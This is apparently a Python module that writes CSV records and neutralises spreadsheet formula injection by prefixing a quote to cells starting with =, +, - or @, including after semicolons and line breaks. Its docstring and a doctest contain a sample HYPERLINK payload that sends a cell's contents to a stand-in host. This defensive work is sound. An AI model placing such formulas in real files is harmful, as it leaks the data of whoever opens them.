r"""The lines of every CSV file graphwarm writes, with text cells a spreadsheet cannot run.

Excel, LibreOffice Calc and Google Sheets read a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula, so a LinkedIn name like ``=HYPERLINK("http://…?"&A1,"Click me")`` would
run in the spreadsheet of whoever opens the reach table (CSV injection, OWASP). Following
OWASP, :func:`neutralise` puts a ``'`` before such a cell: spreadsheets then show it as text.

Where a cell begins, for this rule:

- at the start of the value, also when the formula character follows spaces, tabs or double
  quotes (which a spreadsheet or a clean-up step may strip); and always before a leading tab,
  carriage return or line feed (OWASP's list);
- after every ``;`` in the value: Excel in Swedish and most European locales splits a CSV
  opened by double-click at ``;``, its list separator, and a comma-separated field's quotes
  then stand mid-cell, where they quote nothing, so ``Bo;=1+1`` gives a cell ``=1+1``;
- after every line break in the value, where that same reading ends the row.

Numbers are not text: :func:`csv_line` writes ``int`` and ``float`` values as they are
(``-0.5`` stays a number), and neutralises ``str`` values only. The price of the rule is paid
by text that merely looks like a formula: a phone number ``+46 70 …`` or a title ``- CEO``
gets the ``'`` too (OWASP's accepted trade-off); ``raw=True`` writes every cell as stored.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

__all__ = ["csv_line", "neutralise"]

# What may stand before the formula character: whitespace other than line breaks (after each
# of which a cell begins of its own), and double quotes.
_BEFORE = r'(?:[^\S\r\n]|")*'
_FORMULA = "=+-@"
_AT_START = re.compile(rf"[\t\r\n]|{_BEFORE}[{re.escape(_FORMULA)}]")
_AFTER_SEMICOLON = re.compile(rf";(?={_BEFORE}[{re.escape(_FORMULA)}])")
_AFTER_BREAK = re.compile(rf"([\r\n])(?={_BEFORE}[{re.escape(_FORMULA)}])")


def neutralise(text: str) -> str:
    """``text`` with a ``'`` wherever a spreadsheet cell would begin with a formula: at the
    start, after a ``;`` and after a line break (the module's docstring says why).

    >>> print(neutralise('=HYPERLINK("http://evil.example/?"&A1,"Click me")'))
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")
    >>> print(neutralise("Kontor; +46 70 123 45 67"))
    Kontor;' +46 70 123 45 67
    >>> print(neutralise("Anna-Karin Öberg"))
    Anna-Karin Öberg
    """
    if _AT_START.match(text):
        text = "'" + text
    if ";" in text:  # ``in`` finds it at memory speed, the expressions scan far slower
        text = _AFTER_SEMICOLON.sub(";'", text)
    if "\n" in text or "\r" in text:
        text = _AFTER_BREAK.sub(r"\1'", text)
    return text


def csv_line(values: Sequence[str | int | float | None], *, raw: bool = False) -> str:
    r"""One CSV record as ``csv.writer`` writes it (minimal quoting, ``\n`` ends it), except
    that a bare ``\r`` is quoted too: ``str`` values neutralised unless ``raw``, floats with
    four decimals (the probabilities of every graphwarm CSV), ``None`` empty.

    The record is written as it is first, and written again with its text neutralised only
    when a quick look finds a formula character where a cell might begin: over a reach
    table's 26 MB the look costs a tenth of the writing, neutralising every cell three times
    the writing.
    """
    line = _record(values)
    if raw or not _may_begin_formula(line):
        return line
    return _record([neutralise(v) if isinstance(v, str) else v for v in values])


def _record(values: Sequence[str | int | float | None]) -> str:
    """The values as one CSV record. ``csv.writer`` walks each field character by character
    (0.5 s over a reach table's 26 MB); ``in`` and ``str.replace`` run in C at memory speed."""
    fields = []
    for value in values:
        if isinstance(value, str):
            text = value
        elif value is None:
            text = ""
        elif isinstance(value, float):
            text = f"{value:.4f}"
        else:
            text = str(value)
        if "," in text or '"' in text or "\n" in text or "\r" in text:
            text = '"' + text.replace('"', '""') + '"'
        fields.append(text)
    return ",".join(fields) + "\n"


def _may_begin_formula(line: str) -> bool:
    """Whether :func:`neutralise` might change a value of ``line``, a record as
    :func:`_record` writes it; never false when it would.

    True when the line holds a tab or a line break before its end, or a formula character
    that follows, past whitespace and quotes, the line's start, a comma or a ``;``. A comma
    inside a value counts as a cell start too: that errs only towards the slower, exact path.
    """
    if "\t" in line or "\r" in line or line.find("\n") < len(line) - 1:
        return True
    for char in _FORMULA:
        i = line.find(char)
        while i >= 0:
            j = i - 1
            while j >= 0 and (line[j] == '"' or line[j].isspace()):
                j -= 1
            if j < 0 or line[j] in ",;":
                return True
            i = line.find(char, i + 1)
    return False
